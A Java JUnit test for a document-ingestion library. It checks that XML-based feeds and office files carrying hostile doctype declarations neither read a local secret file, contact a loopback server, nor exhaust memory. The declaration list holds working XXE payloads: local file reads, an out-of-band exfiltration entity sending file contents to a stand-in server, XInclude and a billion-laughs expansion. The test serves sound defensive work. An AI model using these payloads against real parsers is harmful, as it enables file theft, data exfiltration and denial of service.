package org.entente.ingest.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import org.entente.ingest.Outcome;
import org.entente.ingest.Written;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Document type declarations that would read a file, call a server or multiply without end, in every format that is XML inside.
 * SECRET stands for a file that must not be read, SERVER for an address that must not be asked.
 */
@Tag("slow")
class EntityTest {

    private static final String WORDS = "TOP-SECRET-WORDS";

    private static final List<String> DECLARATIONS = List.of(
            "<!DOCTYPE r [<!ENTITY e SYSTEM \"file://SECRET\">]>",
            "<!DOCTYPE r [<!ENTITY e SYSTEM \"SECRET\">]>",
            "<!DOCTYPE r [<!ENTITY e PUBLIC \"-//x\" \"file://SECRET\">]>",
            "<!DOCTYPE r [<!ENTITY e SYSTEM \"SERVER/e\">]>",
            "<!DOCTYPE r [<!ENTITY e PUBLIC \"-//x\" \"SERVER/e\">]>",
            "<!DOCTYPE r SYSTEM \"SERVER/r.dtd\" [<!ENTITY e \"x\">]>",
            "<!DOCTYPE r PUBLIC \"-//x\" \"SERVER/r.dtd\" [<!ENTITY e \"x\">]>",
            "<!DOCTYPE r SYSTEM \"file://SECRET\" [<!ENTITY e \"x\">]>",
            "<!DOCTYPE r [<!ENTITY % p SYSTEM \"file://SECRET\"> %p;<!ENTITY e \"x\">]>",
            "<!DOCTYPE r [<!ENTITY % p SYSTEM \"SERVER/p.dtd\"> %p;<!ENTITY e \"x\">]>",
            "<!DOCTYPE r [<!ENTITY % f SYSTEM \"file://SECRET\"><!ENTITY % w \"<!ENTITY &#37; s SYSTEM 'SERVER/%f;'>\">%w;%s;"
                    + "<!ENTITY e \"x\">]>",
            "<!DOCTYPE r [<!ENTITY % a \"<!ENTITY e SYSTEM 'file://SECRET'>\"> %a;]>",
            "<!DOCTYPE r [<!ENTITY e SYSTEM \"jar:file://SECRET!/x\">]>",
            "<!DOCTYPE r [<!ENTITY e SYSTEM \"netdoc:SECRET\">]>",
            "<!DOCTYPE r [<!ENTITY e SYSTEM \"ftp://127.0.0.1:PORT/e\">]>",
            "<!DOCTYPE r [<!NOTATION n SYSTEM \"file://SECRET\"><!ENTITY e SYSTEM \"file://SECRET\" NDATA n>]>",
            "<!DOCTYPE r [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">"
                    + "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">"
                    + "<!ENTITY f \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\">"
                    + "<!ENTITY h \"&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;\"><!ENTITY i \"&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;\">"
                    + "<!ENTITY j \"&i;&i;&i;&i;&i;&i;&i;&i;&i;&i;\"><!ENTITY e \"&j;&j;&j;&j;&j;&j;&j;&j;&j;&j;\">]>",
            "<!DOCTYPE r [<!ENTITY e \"&f;\"><!ENTITY f \"&e;\">]>",
            "<!DOCTYPE r [<!ENTITY a \"" + "A".repeat(100_000) + "\"><!ENTITY e \"" + "&a;".repeat(30_000) + "\">]>",
            "<!DOCTYPE r [<!ATTLIST p x CDATA #IMPLIED><!ENTITY e SYSTEM \"file:///proc/self/environ\">]>",
            "<?xml-stylesheet type=\"text/xsl\" href=\"SERVER/s.xsl\"?><!DOCTYPE r [<!ENTITY e SYSTEM \"SERVER/e\">]>");

    @TempDir
    Path folder = Path.of(".");

    private static Map<String, byte[]> files(String declaration, int number) {
        String xml = "<?xml version=\"1.0\"?>" + declaration;
        String include =
                "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file://SECRET\" parse=\"text\"/>";
        Map<String, byte[]> files = new LinkedHashMap<>();
        files.put(
                number + ".rss",
                Written.utf8(xml + "<rss version=\"2.0\"><channel><title>t</title><item><title>Iran &e;"
                        + "</title><description>&e;" + include + "</description></item></channel></rss>"));
        files.put(
                number + ".atom",
                Written.utf8(xml + "<feed xmlns=\"http://www.w3.org/2005/Atom\"><title>t</title><entry>"
                        + "<title>Iran &e;</title><content>&e;</content></entry></feed>"));
        String body = "<w:document xmlns:w=\"w\"><w:body><w:p><w:r><w:t>Iran &e;</w:t></w:r></w:p>" + include
                + "</w:body></w:document>";
        String plain =
                "<w:document xmlns:w=\"w\"><w:body><w:p><w:r><w:t>Iran left.</w:t></w:r></w:p></w:body></w:document>";
        files.put(number + "a.docx", Written.zip(Map.of("word/document.xml", Written.utf8(xml + body))));
        Map<String, byte[]> word = new LinkedHashMap<>();
        word.put("docProps/core.xml", Written.utf8(xml + "<c><title>&e;</title></c>"));
        word.put("word/document.xml", Written.utf8(plain));
        files.put(number + "b.docx", Written.zip(word));
        files.put(number + "a.odt", Written.zip(Map.of("content.xml", Written.utf8(xml + "<t><p>Iran &e;</p></t>"))));
        Map<String, byte[]> open = new LinkedHashMap<>();
        open.put("meta.xml", Written.utf8(xml + "<m><title>&e;</title></m>"));
        open.put("content.xml", Written.utf8("<t><p>Iran left.</p></t>"));
        files.put(number + "b.odt", Written.zip(open));
        files.put(number + ".xhtml", Written.utf8(xml + "<html><body><p>Iran &e;</p>" + include + "</body></html>"));
        return files;
    }

    @Test
    void noEntityIsFetchedOrMultiplied() throws IOException {
        assertThat(DECLARATIONS).hasSizeGreaterThanOrEqualTo(20);
        Path secret = Files.writeString(folder.resolve("secret"), WORDS);
        Path hostile = Files.createDirectory(folder.resolve("hostile"));
        AtomicInteger connections = new AtomicInteger();
        List<Outcome> outcomes = new ArrayList<>();
        int written = 0;
        try (ServerSocket server = new ServerSocket(0, 50, InetAddress.getLoopbackAddress())) {
            Thread listener = new Thread(() -> count(server, connections));
            listener.setDaemon(true);
            listener.start();
            for (int i = 0; i < DECLARATIONS.size(); i++) {
                String declaration = placed(DECLARATIONS.get(i), secret, server.getLocalPort());
                for (Map.Entry<String, byte[]> file : files(declaration, i).entrySet()) {
                    Files.write(hostile.resolve(file.getKey()), file.getValue());
                    written++;
                }
            }
            Watched watched = Watched.ingest(hostile);
            outcomes.addAll(watched.outcomes());
            System.out.printf(
                    "entities: %d files, %d outcomes, most work on one %.1f s, %d MB, %d connections%n",
                    written, outcomes.size(), watched.work(), watched.megabytes(), connections.get());
            assertThat(watched.megabytes()).isLessThanOrEqualTo(512);
            assertThat(watched.work()).isLessThanOrEqualTo(5);
        }
        assertThat(outcomes).hasSize(written);
        assertThat(connections).hasValue(0);
        for (Outcome outcome : outcomes) {
            String told = outcome.toString();
            assertThat(told).doesNotContain(WORDS, "lollol", "AAAAAAAA", "PATH=");
        }
    }

    private static String placed(String text, Path secret, int port) {
        return text.replace("SECRET", secret.toString())
                .replace("SERVER", "http://127.0.0.1:" + port)
                .replace("PORT", String.valueOf(port));
    }

    private static void count(ServerSocket server, AtomicInteger connections) {
        while (!server.isClosed()) {
            try {
                server.accept().close();
                connections.incrementAndGet();
            } catch (IOException e) {
                return;
            }
        }
    }
}
